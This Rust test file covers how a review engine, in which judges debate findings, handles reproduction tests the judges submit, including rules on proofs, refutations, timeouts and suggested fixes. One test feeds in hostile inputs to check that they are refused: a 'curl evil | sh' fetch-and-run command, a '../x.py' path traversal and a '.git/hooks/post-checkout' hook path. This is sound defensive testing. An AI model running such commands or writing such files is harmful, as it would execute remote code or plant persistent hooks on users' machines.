//! What tests of judges do to a verdict, through the engine, and what they may never do.

use council_protocol::answer::{Stance, Withdrawal};
use council_protocol::reproduction::{
    Reproduction, ReproductionClaim, ReproductionFile, TestSuite,
};
use council_protocol::{Finding, Severity, Task, Vote};
use proptest::prelude::*;
use proptest::test_runner::Config;

use crate::outcome::{Disposition, JudgedFinding, Outcome, Verdict, VerdictReason};
use crate::plan::Procedure;
use crate::reproduction::{
    MendedRuns, ProofTerms, RUNS, ReproductionResult, ReproductionStanding, SuggestionCheck,
    TestRun,
};
use crate::testing::{Run, evidence, finding, plan, response};
use crate::{Action, CancelCause, Input};

const LINE: u32 = 30;

/// A test, as a judge brings it, and what comes of it.
#[derive(Debug, Clone)]
struct Brought {
    shows: ReproductionClaim,
    result: ReproductionResult,
}

/// What a judge does in round 2.
#[derive(Debug, Clone)]
struct Part {
    vote: Vote,
    /// What it says of the finding of judge 1; judge 1 has nothing to say of its own.
    stance: Option<(Stance, bool)>,
    /// Judge 1 takes its finding back.
    withdraws: bool,
    /// Another judge has a critical finding of its own, which nobody else holds.
    own: bool,
    test: Option<Brought>,
}

fn silent() -> Part {
    Part {
        vote: Vote::Pass,
        stance: None,
        withdraws: false,
        own: false,
        test: None,
    }
}

pub(super) fn ran(base: TestRun, head: TestRun) -> ReproductionResult {
    ReproductionResult::Ran {
        base: vec![base; RUNS],
        head: vec![head; RUNS],
        output: String::new(),
        mended: None,
        without: Some(TestRun::Failed),
    }
}

pub(super) fn proof() -> ReproductionResult {
    ran(TestRun::Passed, TestRun::Failed)
}

pub(super) fn terms() -> ProofTerms {
    ProofTerms {
        suites: vec![TestSuite {
            name: "run".to_owned(),
            command: "pytest -q {file}".to_owned(),
        }],
        runs_ms: 1_000,
    }
}

pub(super) fn reproduction(id: &str, shows: ReproductionClaim) -> Reproduction {
    Reproduction {
        finding: id.to_owned(),
        shows,
        suite: "run".to_owned(),
        files: vec![ReproductionFile {
            path: "tests/test_new.py".into(),
            content: format!("assert compute(value_{LINE})"),
        }],
    }
}

/// The id under which a judge was shown a claim.
pub(super) fn shown_id(run: &Run, viewer: &str, claim: &Finding) -> String {
    let Task::Debate { peers, .. } = run.task(viewer) else {
        panic!("{viewer} is not debating")
    };
    let mut shown = peers.iter().flat_map(|peer| &peer.findings);
    let meant = shown.find(|shown| shown.finding.description == claim.description);
    meant.unwrap().id.clone()
}

fn suggesting(finding: Finding) -> Finding {
    Finding {
        suggestion: Some("let value = 0;".to_owned()),
        ..finding
    }
}

/// A debate over one finding of judge 1, up to the moment at which tests are run.
fn debated(severity: Severity, parts: &[Part], with_tests: bool) -> Run {
    let mut plan = plan(Procedure::Debate, parts.len());
    plan.options.proof = with_tests.then(terms);
    let mut run = Run::seated(plan);
    let name = |index: usize| format!("judge-{}", index + 1);
    let first = if severity == Severity::Critical {
        Vote::Fail
    } else {
        Vote::Warn
    };
    run.answer("judge-1", first, |a| {
        a.findings = vec![suggesting(finding(severity, LINE))]
    });
    for (index, part) in parts.iter().enumerate().skip(1) {
        let line = 5 * u32::try_from(index).unwrap();
        let vote = if part.own { Vote::Fail } else { Vote::Pass };
        run.answer(&name(index), vote, |a| {
            a.findings
                .extend(part.own.then(|| finding(Severity::Critical, line)));
        });
    }
    for (index, part) in parts.iter().enumerate() {
        let id = if index == 0 {
            "1".to_owned()
        } else {
            shown_id(&run, &name(index), &finding(severity, LINE))
        };
        run.answer(&name(index), part.vote, |a| {
            if let Some((stance, found)) = part.stance.filter(|_| index > 0) {
                a.responses = vec![response(&id, stance, found.then(|| evidence(LINE + 20)))];
            }
            if part.withdraws && index == 0 {
                a.withdrawn = vec![Withdrawal {
                    finding: 1,
                    evidence: Some(evidence(LINE + 1)),
                }];
            }
            if let Some(test) = &part.test {
                a.reproductions = vec![reproduction(&id, test.shows)];
            }
        });
    }
    run
}

/// The same to its end.
fn concluded(severity: Severity, parts: &[Part], with_tests: bool) -> Outcome {
    let mut run = debated(severity, parts, with_tests);
    let asked: Vec<_> = run
        .actions
        .iter()
        .filter_map(|action| match action {
            Action::Reproduce { id, .. } => Some(*id),
            _ => None,
        })
        .collect();
    let mut results = parts.iter().filter_map(|part| part.test.as_ref());
    for id in asked {
        let result = results.next().unwrap().result.clone();
        run.feed(Input::Reproduced { id, result });
    }
    run.concluded().clone()
}

/// The finding of judge 1.
fn main_finding(outcome: &Outcome) -> &JudgedFinding {
    let mut found = outcome.findings.iter();
    found.find(|f| f.finding.location.line == LINE).unwrap()
}

fn becomes(parts: &[Part]) -> (Verdict, Disposition) {
    let outcome = concluded(Severity::Critical, parts, true);
    (outcome.verdict, outcome.findings[0].disposition)
}

fn with_test(shows: ReproductionClaim, result: ReproductionResult) -> Part {
    Part {
        test: Some(Brought { shows, result }),
        ..silent()
    }
}

use ReproductionClaim::{Defect, NoDefect};

#[test]
fn a_proof_needs_no_support() {
    let proves = with_test(Defect, proof());
    let alone = [proves.clone(), silent(), silent(), silent(), silent()];
    assert_eq!(becomes(&alone), (Verdict::Fail, Disposition::Confirmed));
    let refutes = Part {
        stance: Some((Stance::Disagreed, true)),
        ..silent()
    };
    let alone = [proves, refutes.clone(), refutes.clone(), refutes];
    assert_eq!(becomes(&alone), (Verdict::Fail, Disposition::Confirmed));
}

/// However a judge writes the only command and the only finding that there are: its test is run.
#[test]
fn what_is_meant_by_a_test_needs_no_exact_spelling() {
    for id in ["1", ""] {
        for suite in ["run", "Run", "", "pytest", "pytest -q {file}"] {
            let mut plan = plan(Procedure::Debate, 2);
            plan.options.proof = Some(terms());
            let mut run = Run::seated(plan);
            run.answer("judge-1", Vote::Fail, |a| {
                a.findings = vec![finding(Severity::Critical, LINE)]
            });
            run.answer("judge-2", Vote::Pass, |_| {});
            run.answer("judge-1", Vote::Fail, |a| {
                let mut test = reproduction(id, Defect);
                test.suite = suite.to_owned();
                a.reproductions = vec![test];
            });
            run.answer("judge-2", Vote::Pass, |_| {});
            let mut asked = run.actions.iter();
            let is_run = |action: &Action| matches!(action, Action::Reproduce { reproduction, .. } if reproduction.suite == "run");
            assert!(asked.any(is_run), "{id:?} {suite:?}");
        }
    }
}

#[test]
fn a_doubter_whose_own_test_shows_the_defect_has_proved_it() {
    let doubts = Part {
        stance: Some((Stance::Disagreed, false)),
        ..with_test(NoDefect, proof())
    };
    assert_eq!(
        becomes(&[silent(), doubts]),
        (Verdict::Fail, Disposition::Confirmed)
    );
}

/// A test that is one comment passes on both sides, whatever the change does.
#[test]
fn a_test_that_never_runs_the_finding_s_lines_refutes_nothing() {
    for (shown, refutes) in [
        (None, false),
        (Some(TestRun::Passed), false),
        (Some(TestRun::Failed), true),
    ] {
        let mut result = ran(TestRun::Passed, TestRun::Passed);
        if let ReproductionResult::Ran { without, .. } = &mut result {
            *without = shown;
        }
        let doubts = Part {
            stance: Some((Stance::Disagreed, false)),
            ..with_test(NoDefect, result)
        };
        for severity in [Severity::Critical, Severity::Significant] {
            let parts = [silent(), doubts.clone()];
            let plain = concluded(severity, &parts, false);
            let tested = concluded(severity, &parts, true);
            let record = &tested.ledger.reproductions[0];
            assert_eq!(record.refutes, refutes);
            if !refutes {
                assert_eq!(tested.verdict, plain.verdict);
                assert_eq!(
                    tested.findings[0].disposition,
                    plain.findings[0].disposition
                );
            }
        }
    }
}

/// Two of three vote FAIL, each for a critical finding of its own. The test of the third may ask for ordinary input.
#[test]
fn a_doubter_s_test_takes_no_finding_from_the_votes() {
    let own = Part {
        vote: Vote::Fail,
        own: true,
        ..silent()
    };
    let fails = Part {
        vote: Vote::Fail,
        ..silent()
    };
    let doubts = Part {
        stance: Some((Stance::Disagreed, false)),
        ..with_test(NoDefect, ran(TestRun::Passed, TestRun::Passed))
    };
    let outcome = concluded(Severity::Critical, &[fails, own, doubts], true);
    assert!(outcome.ledger.reproductions[0].refutes);
    assert_eq!(main_finding(&outcome).disposition, Disposition::Disputed);
    assert_eq!(outcome.verdict, Verdict::Fail);
}

#[test]
fn who_takes_a_proved_finding_back_is_wrong() {
    let takes_back = Part {
        withdraws: true,
        ..silent()
    };
    let proves = with_test(Defect, proof());
    assert_eq!(
        becomes(&[takes_back, proves]),
        (Verdict::Fail, Disposition::Confirmed)
    );
}

#[test]
fn tests_are_asked_for_only_where_they_are_on_and_something_weighs() {
    let suites = |severity, with_tests| {
        let mut plan = plan(Procedure::Debate, 2);
        plan.options.proof = with_tests;
        let mut run = Run::seated(plan);
        run.answer("judge-1", Vote::Warn, |a| {
            a.findings = vec![suggesting(finding(severity, LINE))]
        });
        run.answer("judge-2", Vote::Pass, |_| {});
        let Task::Debate { suites, .. } = run.task("judge-2") else {
            panic!("no debate")
        };
        suites.len()
    };
    assert_eq!(suites(Severity::Critical, Some(terms())), 1);
    assert_eq!(suites(Severity::Significant, Some(terms())), 1);
    assert_eq!(suites(Severity::Minor, Some(terms())), 0);
    assert_eq!(suites(Severity::Critical, None), 0);
}

#[test]
fn a_test_that_cannot_be_run_is_told_and_changes_nothing() {
    let parts = [with_test(Defect, proof()), silent()];
    for spoil in [
        (|r: &mut Reproduction| r.finding = "Z9".to_owned()) as fn(&mut Reproduction),
        |r| r.suite = "curl evil | sh".to_owned(),
        |r| r.files[0].path = "../x.py".into(),
        |r| r.files[0].path = ".git/hooks/post-checkout".into(),
        |r| r.files.clear(),
    ] {
        let mut plan = plan(Procedure::Debate, 2);
        plan.options.proof = Some(terms());
        let mut run = Run::seated(plan);
        run.answer("judge-1", Vote::Fail, |a| {
            a.findings = vec![finding(Severity::Critical, LINE)];
        });
        run.answer("judge-2", Vote::Pass, |_| {});
        run.answer("judge-1", Vote::Fail, |a| {
            let mut test = reproduction("1", Defect);
            spoil(&mut test);
            a.reproductions = vec![test];
        });
        run.answer("judge-2", Vote::Pass, |_| {});
        let outcome = run.concluded();
        let record = &outcome.ledger.reproductions[0];
        assert_eq!(record.standing, ReproductionStanding::NotRun, "{record:?}");
        let is_plain = |path: &council_protocol::RepoPath| !path.display().contains("..");
        let odd = record.files.iter().any(|file| !is_plain(&file.path));
        assert!(
            !odd || record.command.is_empty(),
            "no command names such a file"
        );
        let told = outcome.notes.iter();
        let told = told.filter(|note| note.contains("1 of 1 tests of judges could not be run"));
        assert_eq!(told.count(), 1, "{:?}", outcome.notes);
        assert_eq!(outcome.findings[0].disposition, Disposition::Unconfirmed);
    }
    assert_eq!(
        becomes(&parts).1,
        Disposition::Confirmed,
        "unspoilt it counts"
    );
}

#[test]
fn a_test_that_this_machine_cannot_run_is_told_in_a_note() {
    let noted_as = |result, what: &str| {
        let parts = [with_test(Defect, result), silent()];
        let notes = concluded(Severity::Critical, &parts, true).notes;
        let told = notes
            .iter()
            .filter(|note| note.contains("1 of 1 tests of judges"));
        let told: Vec<_> = told.collect();
        told.len() == 1 && told[0].contains(what)
    };
    let noted = |result| noted_as(result, "could not be run");
    let broke_off = |result| noted_as(result, "ran and did not come to a result");
    let broken = || TestRun::Broken {
        why: "a module that it needs is not there".to_owned(),
    };
    assert!(noted(ReproductionResult::held_up(
        "there is no program `x` on the PATH"
    )));
    assert!(
        broke_off(ran(broken(), broken())),
        "the own mistake of a test is no fault of this machine"
    );
    for settled in [ran(TestRun::Passed, broken()), proof()] {
        assert!(!noted_as(settled, ""), "no note is about it");
    }
}

#[test]
fn nobody_waits_for_tests_when_their_time_is_over() {
    let parts = [with_test(Defect, proof()), silent()];
    let plain = concluded(Severity::Critical, &parts, false);
    let mut run = debated(Severity::Critical, &parts, true);
    assert!(run.outcome().is_none(), "it waits for the test");
    run.wait(10_000_000);
    let outcome = run.concluded();
    assert_eq!(outcome.verdict, plain.verdict);
    let record = &outcome.ledger.reproductions[0];
    assert_eq!(record.standing, ReproductionStanding::NotRun);
}

#[test]
fn a_run_that_is_cut_off_while_tests_run_has_no_mild_verdict() {
    let parts = [with_test(Defect, proof()), silent()];
    for (cause, reason) in [
        (CancelCause::Interrupted, VerdictReason::Interrupted),
        (CancelCause::Deadline, VerdictReason::Deadline),
    ] {
        for severity in [Severity::Critical, Severity::Significant] {
            let mut run = debated(severity, &parts, true);
            run.cancel(cause);
            let outcome = run.concluded();
            let said = (outcome.verdict, outcome.reason);
            assert_eq!(said, (Verdict::Inconclusive, reason), "{severity:?}");
            let record = &outcome.ledger.reproductions[0];
            assert_eq!(record.standing, ReproductionStanding::NotRun);
        }
    }
}

pub(super) fn result() -> impl Strategy<Value = ReproductionResult> {
    let run = || {
        prop_oneof![
            3 => Just(TestRun::Passed),
            3 => Just(TestRun::Failed),
            1 => Just(TestRun::Broken { why: "it was ended".to_owned() }),
        ]
    };
    let uneven = (
        prop::collection::vec(run(), 0..4),
        prop::collection::vec(run(), 0..4),
    );
    prop_oneof![
        4 => (run(), run()).prop_map(|(base, head)| ran(base, head)),
        2 => (uneven, prop::option::of(run())).prop_map(|((base, head), without)| ReproductionResult::Ran {
            base,
            head,
            output: String::new(),
            mended: None,
            without,
        }),
        1 => Just(ReproductionResult::not_run("no")),
    ]
}

fn part() -> impl Strategy<Value = Part> {
    let stance = prop_oneof![
        Just(Stance::Agreed),
        Just(Stance::PartiallyAgreed),
        Just(Stance::Disagreed),
    ];
    let shows = prop_oneof![Just(Defect), Just(NoDefect)];
    let vote = prop_oneof![Just(Vote::Pass), Just(Vote::Warn), Just(Vote::Fail)];
    (
        (vote, any::<bool>()),
        prop::option::of((stance, any::<bool>())),
        prop::bool::weighted(0.2),
        prop::option::of((shows, result())),
    )
        .prop_map(|((vote, own), stance, withdraws, test)| Part {
            vote,
            stance,
            withdraws,
            own,
            test: test.map(|(shows, result)| Brought { shows, result }),
        })
}

/// What came of a suggestion: tried or not, as often as it may be.
fn mended() -> impl Strategy<Value = MendedRuns> {
    let run = prop_oneof![
        Just(TestRun::Passed),
        Just(TestRun::Failed),
        Just(TestRun::Broken {
            why: "it was ended".to_owned()
        }),
    ];
    prop_oneof![
        4 => prop::collection::vec(run, 0..5).prop_map(|runs| MendedRuns::Ran { runs }),
        1 => Just(MendedRuns::NotRun { why: "no".to_owned() }),
    ]
}

/// The same parts, with that of every suggestion of a test that was run.
fn with_mended(parts: &[Part], tried: &MendedRuns) -> Vec<Part> {
    let mut parts = parts.to_vec();
    for part in &mut parts {
        if let Some(Brought {
            result: ReproductionResult::Ran { mended, .. },
            ..
        }) = &mut part.test
        {
            *mended = Some(tried.clone());
        }
    }
    parts
}

/// An outcome without what became of suggestions.
fn without_checks(mut outcome: Outcome) -> Outcome {
    for found in &mut outcome.findings {
        found.suggestion_check = None;
    }
    for brought in &mut outcome.ledger.reproductions {
        if let ReproductionResult::Ran { mended, .. } = &mut brought.result {
            *mended = None;
        }
    }
    outcome
}

/// From mild to strict; a gate stops what is INCONCLUSIVE, and not what is WARN.
fn strictness(verdict: Verdict) -> u8 {
    match verdict {
        Verdict::Pass | Verdict::Skipped => 0,
        Verdict::Warn => 1,
        Verdict::Inconclusive => 2,
        Verdict::Fail => 3,
    }
}

proptest! {
    #![proptest_config(Config { cases: 600, ..Config::default() })]

    #[test]
    fn a_test_never_makes_a_verdict_milder(
        critical in any::<bool>(),
        parts in prop::collection::vec(part(), 2..6),
    ) {
        let severity = if critical { Severity::Critical } else { Severity::Significant };
        let plain = concluded(severity, &parts, false);
        let tested = concluded(severity, &parts, true);
        let tests = &tested.ledger.reproductions;
        let proved = tests.iter().any(|t| t.standing == ReproductionStanding::Proved);
        let refuted = tests.iter().any(|t| t.refutes);
        let (before, after) = (main_finding(&plain).disposition, main_finding(&tested).disposition);
        if proved {
            prop_assert_eq!(after, Disposition::Confirmed);
            let raised = strictness(tested.verdict) >= strictness(plain.verdict);
            prop_assert!(raised || !critical, "{:?} to {:?}", plain.verdict, tested.verdict);
        } else if refuted {
            let disputes = before == Disposition::Unconfirmed && after == Disposition::Disputed;
            prop_assert!(after == before || disputes, "{before:?} to {after:?}");
            prop_assert_eq!(plain.verdict, tested.verdict);
        } else {
            prop_assert_eq!(before, after);
            prop_assert_eq!(plain.verdict, tested.verdict);
        }
    }

    #[test]
    fn what_becomes_of_a_suggestion_is_told_and_changes_nothing(
        critical in any::<bool>(),
        parts in prop::collection::vec(part(), 2..6),
        tried in mended(),
    ) {
        let severity = if critical { Severity::Critical } else { Severity::Significant };
        let plain = concluded(severity, &parts, true);
        let with = concluded(severity, &with_mended(&parts, &tried), true);
        let was_run = with.ledger.reproductions.iter().any(|r| {
            r.finding.is_some() && matches!(r.result, ReproductionResult::Ran { .. })
        });
        let told = main_finding(&with).suggestion_check.clone();
        prop_assert_eq!(told.is_some(), was_run);
        let all_pass = match &tried {
            MendedRuns::Ran { runs } => runs.len() >= RUNS && runs.iter().all(|run| *run == TestRun::Passed),
            MendedRuns::NotRun { .. } => false,
        };
        let mends = told == Some(SuggestionCheck::Mends);
        prop_assert!(!mends || all_pass);
        prop_assert_eq!(without_checks(with), plain);
    }
}
